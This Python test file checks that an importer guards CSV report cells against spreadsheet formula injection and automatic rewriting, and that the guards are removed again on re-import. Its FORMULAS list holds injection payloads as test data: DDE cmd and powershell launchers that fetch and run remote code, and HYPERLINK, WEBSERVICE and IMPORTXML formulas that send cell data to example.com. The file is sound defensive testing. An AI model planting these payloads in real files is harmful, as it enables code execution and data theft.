"""Formulas, and cells that a spreadsheet would rewrite, on their way into a report and back."""

import csv
import io
import re

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from importer.reading.grammar import WHITE_SPACE
from importer.reading.guarding import guarded, guarded_text, is_report, unguarded, unguarded_text
from tests.importing import PEOPLE, accepted, examined, messages, report_bytes, report_rows

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=CMD|'/C powershell IEX(wget example.com/x)'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/?v=",A2),"//a")',
    '=WEBSERVICE("http://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(A1:A9)*cmd|'/C calc'!A0",
    "=@SUM(1+1)",
    "=+1",
    "=-1",
    "==1",
    "= 1",
    "=",
    "=\t1+1",
    "=\n1+1",
    "={1,2}",
    "=A1",
    "=INDIRECT(A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+1-613-555-0101",
    "+A1",
    "+",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-A1",
    "-",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003-1+1",
    "\t@SUM(1)",
    "\tplain",
    "\rplain",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "'=1+1",
    "''=1+1",
    "'",
    " '",
    "'plain",
)
REWRITTEN = (
    *("007", "00123", " 00123 ", "00", "01.5", "123456789012", "4111111111111111", "1E5", "12e4", "1.5E-3", "1.50"),
    *(",5", "1,000", "1,000,000", "2001-05-03", "2001-05-03 10:11", "2001-05-03T10:11:12Z", "3/5/2001", "1/2", "1-2"),
    *("3.5.2001", "3 Mar 2001", "3-mars", "MAR1", "SEPT2", "dec 5, 2001", "1 août 2024", "10:11", "9:05 pm"),
)
PLAIN = ("", " ", "Ana", "U12", "0", "7", "12345678901", "ana@example.com", "613-555-0101", "K1A 0B1", "O'Brien", "1=1")
CELLS = st.one_of(
    st.text(max_size=8),
    st.text(st.sampled_from("'=+-@\t\r\n 0123456789.,/:eE\uff1d\uff20\u00a0a"), max_size=8),
    st.text(st.sampled_from("'=-,;\t\n\" a"), max_size=12),
    st.sampled_from((*FORMULAS, *REWRITTEN, *PLAIN)).flatmap(
        lambda cell: st.sampled_from((cell, f"'{cell}", f"''{cell}", f" {cell}"))
    ),
)


def column(expression: pl.Expr, cells: list[str]) -> list[str]:
    return pl.DataFrame({"c": cells}, schema={"c": pl.String}).select(expression)["c"].to_list()


@pytest.mark.parametrize("cell", [*FORMULAS, *REWRITTEN])
def test_what_a_spreadsheet_would_calculate_or_rewrite_is_guarded(cell: str) -> None:
    guarded_cell = guarded_text(cell)
    assert guarded_cell.startswith("'")
    assert guarded_cell == f"'{cell}" or re.search("[,;\t\r\n]'", guarded_cell[1:])


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("Smith,=1+1", "Smith,'=1+1"),
        ("Smith;@SUM(A1)", "Smith;'@SUM(A1)"),
        ("Smith\n-1", "Smith\n'-1"),
        ('Smith, "=1', "Smith,' \"=1"),
        ("Smith,'=1", "Smith,''=1"),
        ("=1,=2", "'=1,'=2"),
        ("\t=1", "'\t'=1"),
        ("Smith, Ana; 7", "Smith, Ana; 7"),
        ("one of 'a', 'b'", "one of 'a', 'b'"),
    ],
)
def test_what_another_separator_would_make_a_formula_is_guarded_within_a_cell(cell: str, expected: str) -> None:
    assert guarded_text(cell) == expected
    assert unguarded_text(expected) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert guarded_text(cell) == cell


@pytest.mark.parametrize("cell", ["'Ana", "'", "'7", "'0"])
def test_an_apostrophe_before_what_needs_none_belongs_to_the_cell(cell: str) -> None:
    assert unguarded_text(cell) == cell


@settings(max_examples=500, deadline=None)
@given(cell=CELLS)
def test_a_guard_comes_off_as_it_went_on(cell: str) -> None:
    assert unguarded_text(guarded_text(cell)) == cell


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(CELLS, max_size=20))
def test_whole_columns_are_treated_as_single_cells_are(cells: list[str]) -> None:
    assert column(guarded(pl.col("c")), cells) == [guarded_text(cell) for cell in cells]
    assert column(unguarded(pl.col("c")), cells) == [unguarded_text(cell) for cell in cells]


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.lists(CELLS, min_size=2, max_size=4), min_size=1, max_size=5), separator=st.sampled_from(",;"))
def test_no_reader_finds_a_formula_in_a_report_whatever_it_splits_at(rows: list[list[str]], separator: str) -> None:
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=separator, lineterminator="\r\n")
    writer.writerows([[guarded_text(cell) for cell in row] for row in rows])
    for other in ",;\t":
        for row in csv.reader(io.StringIO(text.getvalue(), newline=""), delimiter=other):
            found = [cell for cell in row if cell.strip(WHITE_SPACE)[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")]
            assert found == []


def test_nulls_stay_null() -> None:
    frame = pl.DataFrame({"c": [None, "=1"]}, schema={"c": pl.String})
    assert frame.select(guarded(pl.col("c")))["c"].to_list() == [None, "'=1"]


def test_a_report_is_known_by_its_column_of_errors() -> None:
    assert is_report(["uid", "Import Error"])
    assert not is_report(["uid", "import_row"])


def test_no_cell_of_a_report_is_a_formula() -> None:
    text = io.StringIO(newline="")
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(["uid", "=HYPERLINK(1)", "-e-mail address"])
    # A line break before text that is a record by itself would be read as one.
    payloads = [cell for cell in FORMULAS if "\n" not in cell and "\r" not in cell]
    writer.writerows([["", cell, cell] for cell in payloads])
    writer.writerow(['=1"', "x"])
    rows = report_rows(report_bytes(text.getvalue(), name="=1.csv"))
    cells = [cell for row in rows for cell in row]
    assert not [
        cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
    ]
    assert [row[1] for row in rows[1:-1]] == [guarded_text(cell) for cell in payloads]


def test_a_corrected_report_brings_the_cells_as_they_were_sent() -> None:
    report = report_bytes('uid,user_name,city\n,=1+1,00123\n,-x,"\'tis"\n,Ana,2001-05-03\n')
    names, *rows = report_rows(report)
    assert [row[1:3] for row in rows] == [["'=1+1", "'00123"], ["'-x", "''tis"], ["Ana", "'2001-05-03"]]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([names, *([f"U{number}", *row[1:]] for number, row in enumerate(rows))])
    with examined(text.getvalue()) as examination:
        assert messages(examination) == {}
        assert [(row["user_name"], row["city"]) for row in accepted(examination).values()] == [
            ("=1+1", "00123"),
            ("-x", "'tis"),
            ("Ana", "2001-05-03"),
        ]


def test_only_a_report_has_guards() -> None:
    with examined("uid,user_name\nU1,'=1+1\n") as examination:
        assert [row["user_name"] for row in accepted(examination).values()] == ["'=1+1"]


def test_blanks_behind_a_guard_are_trimmed_as_elsewhere() -> None:
    with examined("uid,user_name,import_error\nU1,' =1+1 ,x\n") as examination:
        assert [row["user_name"] for row in accepted(examination).values()] == ["=1+1"]


def test_a_guarded_name_of_a_column_means_what_it_meant() -> None:
    with examined("uid,'-city,import_error\nU1,Hull,x\n") as examination:
        assert [row["city"] for row in accepted(examination).values()] == ["Hull"]
        assert examination.header.names == ("uid", "-city", "import_error")


@settings(max_examples=100, deadline=None)
@given(cells=st.lists(CELLS.filter(lambda cell: not {"\r", "\n", "\0"} & {*cell}), min_size=1, max_size=8))
def test_a_report_of_a_report_is_the_same_report(cells: list[str]) -> None:
    text = io.StringIO(newline="")
    writer = csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(["uid", "shoe", "city"])
    writer.writerows([["", cell, "xxxxxxxxxxx"] for cell in cells])
    first = report_bytes(text.getvalue(), PEOPLE)
    assert [row[1] for row in report_rows(first)[1:]] == [guarded_text(cell) for cell in cells]
    assert report_rows(report_bytes(first))[1:] == report_rows(first)[1:]
